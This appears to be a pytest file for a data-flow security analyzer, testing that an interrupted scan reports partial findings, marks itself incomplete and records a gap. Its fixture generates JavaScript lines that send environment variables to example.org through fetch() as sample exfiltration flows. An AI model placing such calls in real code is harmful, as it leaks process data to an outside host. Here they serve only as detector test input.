"""Does a run that has to end while its findings are judged tell what it has, and that it is not all?"""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer import ScanOptions, pipeline, scan
from analyzer.config import Stop
from analyzer.verdict.flows import Judge, Way

NAMES = ("TZ", "HOSTNAME", "USER", "LANG")
SENDS = "".join(f'fetch("https://example.org/{name}?v=" + process.env.{name});\n' for name in NAMES)


@pytest.fixture
def target(tmp_path: Path) -> Path:
    file = tmp_path / "a.js"
    file.write_text(SENDS, encoding="utf-8")
    return file


def interrupted_after(count: int, stop: Stop, monkeypatch: pytest.MonkeyPatch) -> None:
    judge = Judge._finding
    judged: list[object] = []

    def counting(self: Judge, way: Way) -> object:
        judged.append(way)
        if len(judged) == count:
            stop.asked = "the run was interrupted (SIGTERM)"
        return judge(self, way)

    monkeypatch.setattr(Judge, "_finding", counting)


def test_what_was_judged_is_reported_with_a_gap(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pipeline, "VERDICT_GRACE", 0.0)
    stop = Stop()
    interrupted_after(2, stop, monkeypatch)
    report = scan(target, options=ScanOptions(stop=stop)).to_dict()
    assert [finding["source"]["name"] for finding in report["findings"]] == ["TZ", "HOSTNAME"]
    assert report["complete"] is False
    assert report["coverage"]["gaps"] == [{"file": "a.js", "start": 0, "end": 0, "reason": "the run was interrupted (SIGTERM)"}]
    notes = {item["name"]: item["note"] for item in report["inventory"]["sources"]}
    assert [notes[name] for name in NAMES[:2]] == ["reaches a sink"] * 2
    assert [notes[name] for name in NAMES[2:]] == ["its flows were not looked at: the run ended before"] * 2


def test_what_takes_no_time_is_judged_to_the_end(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    stop = Stop()
    interrupted_after(2, stop, monkeypatch)
    report = scan(target, options=ScanOptions(stop=stop)).to_dict()
    assert len(report["findings"]) == 4
    assert report["complete"] is True
